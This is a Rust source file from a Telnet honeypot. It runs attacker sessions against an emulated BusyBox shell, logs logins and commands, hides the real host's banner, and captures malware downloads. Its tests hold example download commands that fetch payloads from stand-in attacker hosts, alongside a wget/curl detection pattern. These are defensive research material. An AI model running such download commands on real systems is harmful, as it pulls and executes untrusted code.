//
// Copyright 2017-2026 Honeytel Contributors. All Rights Reserved.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//      http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.
//

//! The Session Orchestrator (spec.md §4.E): one task per TCP connection,
//! multiplexing the client socket, the shell child's stdout, and time, while
//! enforcing authentication, logging every event, and rewriting output.

use crate::auth::{AuthCallback, PROMPT_PASS, PROMPT_USER};
use crate::banner;
use crate::config::HoneypotConfig;
use crate::error::ServiceError;
use crate::logger::LogSink;
use crate::retrieve::Retriever;
use crate::rewriter::OutputRewriter;
use bytes::BytesMut;
use honeytel_codec::{KeyCode, NegotiationEvent, OptionNegotiator, TelnetCodec, TelnetFrame};
use honeytel_terminal::{AnsiTermInfo, LineEditor, TermInfo};
use std::collections::HashMap;
use std::net::SocketAddr;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::{Arc, OnceLock};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::net::TcpStream;
use tokio::process::{Child, Command};
use tokio::sync::{mpsc, Mutex};
use tokio_util::codec::{Decoder, Encoder};

const PROMPT: &str = "# ";
const CHILD_SETUP_DELAY: Duration = Duration::from_millis(100);
const DRAIN_IDLE_TIMEOUT: Duration = Duration::from_millis(20);
const READ_BUF_SIZE: usize = 4096;

/// Events the reader task forwards to the main session loop across the
/// cooked-key channel (spec.md §5: "the queue-based design is canonical").
enum SessionInput {
    Key(KeyCode),
    Negotiation(NegotiationEvent),
    Eof,
}

fn url_regex() -> &'static regex::Regex {
    static RE: OnceLock<regex::Regex> = OnceLock::new();
    RE.get_or_init(|| regex::Regex::new(r#"(?i)(wget|curl).+(http[^ >;"']+)"#).unwrap())
}

#[derive(Clone, Copy)]
enum BuiltinCommand {
    Quit,
}

/// The command registry spec.md §9 asks for: an explicit table built at
/// construction (replacing the original decorator-based `@command`
/// registration), with aliases as additional keys pointing to the same
/// handler.
struct CommandTable {
    commands: HashMap<&'static str, BuiltinCommand>,
}

impl CommandTable {
    fn new() -> Self {
        let mut commands = HashMap::new();
        commands.insert("QUIT", BuiltinCommand::Quit);
        commands.insert("EXIT", BuiltinCommand::Quit);
        CommandTable { commands }
    }

    fn lookup(&self, raw: &str) -> Option<BuiltinCommand> {
        let first_word = raw.split_whitespace().next()?;
        self.commands.get(first_word.to_uppercase().as_str()).copied()
    }
}

/// Serializes writes to the client socket (spec.md §5: "the output mutex").
struct ClientWriter {
    half: Mutex<OwnedWriteHalf>,
}

impl ClientWriter {
    fn new(half: OwnedWriteHalf) -> Self {
        ClientWriter { half: Mutex::new(half) }
    }

    async fn send_frames(&self, frames: Vec<TelnetFrame>) -> std::io::Result<()> {
        if frames.is_empty() {
            return Ok(());
        }
        let mut codec = TelnetCodec::new();
        let mut buf = BytesMut::new();
        for frame in frames {
            let _ = codec.encode(frame, &mut buf);
        }
        self.half.lock().await.write_all(&buf).await
    }

    async fn send_payload(&self, bytes: &[u8]) -> std::io::Result<()> {
        if bytes.is_empty() {
            return Ok(());
        }
        let mut buf = BytesMut::new();
        honeytel_codec::encode_payload(bytes, &mut buf);
        self.half.lock().await.write_all(&buf).await
    }
}

async fn dispatch_frame(
    frame: TelnetFrame,
    negotiator: &mut OptionNegotiator,
    writer: &ClientWriter,
) -> Option<SessionInput> {
    match frame {
        TelnetFrame::Data(b) => Some(SessionInput::Key(KeyCode::Byte(b))),
        TelnetFrame::KeyPress(k) => Some(SessionInput::Key(k)),
        TelnetFrame::Will(_)
        | TelnetFrame::Wont(_)
        | TelnetFrame::Do(_)
        | TelnetFrame::Dont(_)
        | TelnetFrame::Subnegotiation(..)
        | TelnetFrame::NoOperation => {
            let (replies, event) = negotiator.handle_frame(frame);
            let _ = writer.send_frames(replies).await;
            event.map(SessionInput::Negotiation)
        }
        // Break/InterruptProcess/AbortOutput/AreYouThere/EraseCharacter/
        // EraseLine/GoAhead/DataMark/SubnegotiationRequest: unsupported
        // commands this honeypot never needs to act on (spec.md §1
        // Non-goals: "not a protocol-perfect RFC 854 implementation").
        _ => None,
    }
}

async fn reader_task(
    mut read_half: OwnedReadHalf,
    writer: Arc<ClientWriter>,
    tx: mpsc::Sender<SessionInput>,
    mut negotiator: OptionNegotiator,
) {
    let mut codec = TelnetCodec::new();
    let mut buf = BytesMut::with_capacity(READ_BUF_SIZE);
    loop {
        let mut chunk = [0u8; READ_BUF_SIZE];
        let n = match read_half.read(&mut chunk).await {
            Ok(0) | Err(_) => break,
            Ok(n) => n,
        };
        buf.extend_from_slice(&chunk[..n]);
        loop {
            match codec.decode(&mut buf) {
                Ok(Some(frame)) => {
                    if let Some(input) = dispatch_frame(frame, &mut negotiator, &writer).await {
                        if tx.send(input).await.is_err() {
                            return;
                        }
                    }
                }
                Ok(None) => break,
                // Malformed framing is Recoverable (spec.md §7): the codec's
                // state machine already reset to Idle, so just keep decoding.
                Err(_) => continue,
            }
        }
    }
    let _ = tx.send(SessionInput::Eof).await;
}

/// One TCP connection's worth of honeypot state (spec.md §3 `ClientSession`).
pub struct Session {
    config: Arc<HoneypotConfig>,
    rewriter: Arc<OutputRewriter>,
    auth: Arc<dyn AuthCallback>,
    retriever: Arc<dyn Retriever>,
    logger: Arc<LogSink>,
    welcome: Arc<str>,
    peer: SocketAddr,
}

impl Session {
    #[allow(clippy::too_many_arguments)]
    pub fn new(
        config: Arc<HoneypotConfig>,
        rewriter: Arc<OutputRewriter>,
        auth: Arc<dyn AuthCallback>,
        retriever: Arc<dyn Retriever>,
        logger: Arc<LogSink>,
        welcome: Arc<str>,
        peer: SocketAddr,
    ) -> Self {
        Session { config, rewriter, auth, retriever, logger, welcome, peer }
    }

    /// Runs the session to completion. Every internal error is caught here
    /// (spec.md §7 "Internal" taxonomy / "any exception inside `handle()`
    /// ... MUST be suppressed") and logged to the operator-facing tracer,
    /// never to the client socket.
    pub async fn run(self, socket: TcpStream) {
        if let Err(e) = self.handle(socket).await {
            tracing::warn!(peer = %self.peer, error = %e, "session ended");
        }
    }

    async fn handle(&self, socket: TcpStream) -> Result<(), ServiceError> {
        let _ = socket.set_nodelay(true);
        let (read_half, write_half) = socket.into_split();
        let writer = Arc::new(ClientWriter::new(write_half));

        // A single negotiator carries its local_will/remote_do tables from the
        // unsolicited handshake into the reader task, so a peer confirming
        // what we already offered (e.g. DO ECHO after our WILL ECHO) is
        // suppressed rather than re-acknowledged (spec.md §3: "the option
        // tables converge ... duplicate agreements are suppressed").
        let mut negotiator = OptionNegotiator::new();
        writer.send_frames(negotiator.initial_frames()).await?;

        let (tx, mut rx) = mpsc::channel(64);
        tokio::spawn(reader_task(read_half, writer.clone(), tx, negotiator));

        let mut editor = LineEditor::new();
        let term = AnsiTermInfo;

        let username = match self.authenticate(&mut rx, &mut editor, &term, &writer).await? {
            Some(username) => username,
            None => return Ok(()),
        };
        tracing::info!(peer = %self.peer, %username, "authenticated");

        // The welcome is synthesized from the real captured BusyBox banner
        // (spec.md §4.F); it must go through the same rewriter as shell
        // output or the attacker sees this host's real banner line.
        let welcome = self.rewriter.apply(self.welcome.as_bytes());
        writer.send_payload(&welcome).await?;
        self.logger.session_start(self.peer);

        let result = self.run_shell_loop(&mut rx, &mut editor, &term, &writer).await;
        self.logger.session_end(self.peer);
        result
    }

    /// spec.md §4.D: prompt, invoke the auth callback, retry up to
    /// `max_auth_attempts`, logging every attempt regardless of outcome.
    async fn authenticate(
        &self,
        rx: &mut mpsc::Receiver<SessionInput>,
        editor: &mut LineEditor,
        term: &dyn TermInfo,
        writer: &ClientWriter,
    ) -> Result<Option<String>, ServiceError> {
        let need_user = self.config.auth_username.is_some();
        let need_pass = self.config.auth_password.is_some();

        for _attempt in 1..=self.config.max_auth_attempts {
            let username = if need_user {
                let result = self.readline(rx, editor, term, writer, PROMPT_USER, true, false).await?;
                Some(result.text.trim().to_string())
            } else {
                None
            };
            let password = if need_pass {
                let result = self.readline(rx, editor, term, writer, PROMPT_PASS, false, false).await?;
                Some(result.text)
            } else {
                None
            };

            self.logger.auth(self.peer, username.as_deref(), password.as_deref());

            if self.auth.check(username.as_deref(), password.as_deref()).await {
                return Ok(Some(username.unwrap_or_default()));
            }
        }
        Ok(None)
    }

    /// spec.md §4.C `readline`: feed cooked keys to the line editor until a
    /// line commits, echoing as we go.
    async fn readline(
        &self,
        rx: &mut mpsc::Receiver<SessionInput>,
        editor: &mut LineEditor,
        term: &dyn TermInfo,
        writer: &ClientWriter,
        prompt: &str,
        echo: bool,
        use_history: bool,
    ) -> Result<honeytel_terminal::LineResult, ServiceError> {
        editor.begin_line(echo, use_history);
        if echo {
            writer.send_payload(prompt.as_bytes()).await?;
        }
        loop {
            match rx.recv().await {
                Some(SessionInput::Key(key)) => {
                    let (echoed, result) = editor.feed(key, term);
                    if !echoed.is_empty() {
                        writer.send_payload(&echoed).await?;
                    }
                    if let Some(result) = result {
                        return Ok(result);
                    }
                }
                Some(SessionInput::Negotiation(_)) => continue,
                Some(SessionInput::Eof) | None => return Err(ServiceError::ConnectionClosed),
            }
        }
    }

    async fn run_shell_loop(
        &self,
        rx: &mut mpsc::Receiver<SessionInput>,
        editor: &mut LineEditor,
        term: &dyn TermInfo,
        writer: &ClientWriter,
    ) -> Result<(), ServiceError> {
        let commands = CommandTable::new();
        let (program, args) = self.config.shell_command();
        let mut child = spawn_shell(program, args)?;
        let pgid = child.id().ok_or_else(|| ServiceError::SpawnFailed("no child pid".to_string()))? as libc::pid_t;
        let mut stdin = child.stdin.take().expect("stdin piped");
        let mut stdout = child.stdout.take().expect("stdout piped");
        let mut stderr = child.stderr.take().expect("stderr piped");
        let shell_label = self.config.shell_label();

        loop {
            if let Ok(Some(_status)) = child.try_wait() {
                break;
            }

            let line = self.readline(rx, editor, term, writer, PROMPT, true, true).await?;

            if line.interrupt {
                // spec.md §4.E step 4: ^C sends SIGINT to the child's
                // process group only; the session itself stays open.
                unsafe {
                    libc::killpg(pgid, libc::SIGINT);
                }
                continue;
            }

            let raw = line.text.trim().to_string();

            // spec.md §4.E steps b/c: log every line, including built-ins,
            // before dispatching it (hontel.py logs CMD ahead of its
            // COMMANDS lookup too).
            self.logger.cmd(self.peer, &raw);

            if matches!(commands.lookup(&raw), Some(BuiltinCommand::Quit)) {
                break;
            }

            if let Some(url) = extract_url(&raw) {
                self.capture_sample(&url).await;
            }

            if stdin.write_all(format!("{raw}\n").as_bytes()).await.is_err() {
                break;
            }

            tokio::time::sleep(CHILD_SETUP_DELAY).await;

            let mut output = Vec::new();
            drain_stream(&mut stdout, &mut output).await;
            drain_stream(&mut stderr, &mut output).await;
            let cleaned = strip_shell_prefix(&output, &shell_label);
            let rewritten = self.rewriter.apply(&cleaned);
            writer.send_payload(&rewritten).await?;
        }

        unsafe {
            libc::killpg(pgid, libc::SIGINT);
        }
        Ok(())
    }

    /// spec.md §4.E step d: detect a `wget`/`curl` download, fetch the URL,
    /// MD5 the content, and move it into the samples directory. Retrieval
    /// failures are silent (spec.md §7: Recoverable, never reveal).
    async fn capture_sample(&self, url: &str) {
        let Some(downloaded) = self.retriever.retrieve(url).await else {
            return;
        };
        match store_sample(&downloaded, url, &self.config.samples_dir).await {
            Ok(destination) => self.logger.sample(self.peer, &destination),
            Err(e) => tracing::debug!(error = %e, %url, "sample capture failed"),
        }
    }
}

fn spawn_shell(program: &str, args: &[&str]) -> Result<Child, ServiceError> {
    let mut cmd = Command::new(program);
    cmd.args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    // SAFETY: setsid() is async-signal-safe and only affects the forked
    // child, making it its own process-group leader so ^C's SIGINT (spec.md
    // §4.E step 4) never reaches this session's own process group.
    unsafe {
        cmd.pre_exec(|| {
            libc::setsid();
            Ok(())
        });
    }
    cmd.spawn().map_err(|e| ServiceError::SpawnFailed(e.to_string()))
}

/// Reads from `stream` until a short idle gap is observed (spec.md §9: an
/// accepted alternative to the blocking-sleep-then-drain coarseness), which
/// stands in for "no more bytes currently available or the child exited".
async fn drain_stream<R: tokio::io::AsyncRead + Unpin>(stream: &mut R, accum: &mut Vec<u8>) {
    let mut buf = [0u8; READ_BUF_SIZE];
    loop {
        match tokio::time::timeout(DRAIN_IDLE_TIMEOUT, stream.read(&mut buf)).await {
            Ok(Ok(0)) => break,
            Ok(Ok(n)) => accum.extend_from_slice(&buf[..n]),
            Ok(Err(_)) => break,
            Err(_) => break,
        }
    }
}

/// Strips the `"<SHELL>: line <N>: "` prefix busybox/bash prepend to error
/// messages (spec.md §4.E step f), so output never leaks the real shell name.
fn strip_shell_prefix(output: &[u8], shell_label: &str) -> Vec<u8> {
    let text = String::from_utf8_lossy(output);
    let pattern = format!(r"(?m)^{}: line \d+: ", regex::escape(shell_label));
    match regex::Regex::new(&pattern) {
        Ok(re) => re.replace_all(&text, "").into_owned().into_bytes(),
        Err(_) => output.to_vec(),
    }
}

fn extract_url(line: &str) -> Option<String> {
    let captures = url_regex().captures(line)?;
    captures.get(2).map(|m| m.as_str().to_string())
}

async fn store_sample(downloaded: &Path, url: &str, samples_dir: &Path) -> Result<PathBuf, ServiceError> {
    let bytes = tokio::fs::read(downloaded).await?;
    let digest = md5::compute(&bytes);
    let basename = url.rsplit('/').next().filter(|s| !s.is_empty()).unwrap_or("sample");
    tokio::fs::create_dir_all(samples_dir).await?;
    let destination = samples_dir.join(format!("{basename}_{digest:x}"));
    if tokio::fs::rename(downloaded, &destination).await.is_err() {
        // rename() fails across filesystems (the temp file and samples dir
        // may live on different mounts); fall back to copy-then-remove.
        tokio::fs::copy(downloaded, &destination).await?;
        let _ = tokio::fs::remove_file(downloaded).await;
    }
    Ok(destination)
}

/// Builds the welcome banner for a freshly constructed [`Session`] (spec.md
/// §4.F), capturing the BusyBox banner once at startup per
/// [`banner::capture_busybox_banner`].
pub fn build_welcome(captured_banner: Option<&str>) -> Arc<str> {
    match captured_banner {
        Some(banner) => Arc::from(banner::synthesize_welcome(banner)),
        None => Arc::from("Enter 'help' for a list of built-in commands.\n"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn extracts_url_from_wget_command() {
        let url = extract_url("wget http://evil.example/x.bin -O /tmp/x").unwrap();
        assert_eq!(url, "http://evil.example/x.bin");
    }

    #[test]
    fn extracts_url_from_curl_command_case_insensitively() {
        let url = extract_url("CURL -o out http://10.0.0.1/payload.sh").unwrap();
        assert_eq!(url, "http://10.0.0.1/payload.sh");
    }

    #[test]
    fn plain_command_has_no_url() {
        assert!(extract_url("uname -a").is_none());
    }

    #[test]
    fn quit_and_exit_are_recognized_as_aliases() {
        let table = CommandTable::new();
        assert!(matches!(table.lookup("quit"), Some(BuiltinCommand::Quit)));
        assert!(matches!(table.lookup("EXIT"), Some(BuiltinCommand::Quit)));
        assert!(table.lookup("uname -a").is_none());
    }

    #[test]
    fn strips_shell_line_prefix() {
        let output = b"/bin/busybox sh: line 1: foo: not found\n";
        let cleaned = strip_shell_prefix(output, "/bin/busybox sh");
        assert_eq!(cleaned, b"foo: not found\n");
    }
}
